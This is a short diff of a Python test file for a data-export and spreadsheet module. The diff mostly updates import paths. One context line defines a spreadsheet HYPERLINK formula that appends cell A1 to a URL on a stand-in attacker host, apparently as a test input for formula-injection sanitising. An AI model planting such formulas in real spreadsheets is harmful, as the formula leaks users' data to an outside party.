@@ -12,9 +12,9 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from flfed.apps.exporting import export
-from flfed.records.entries import EventRow
-from flfed.records.store import RunStore
+from flfed.export.run_folder import export
+from flfed.records.store.entries import EventRow
+from flfed.records.store.writer import RunStore
 from flfed.spreadsheet import csv_text, plain_cell
 
 LINK = '=HYPERLINK("https://evil.example/?"&A1;"open")'
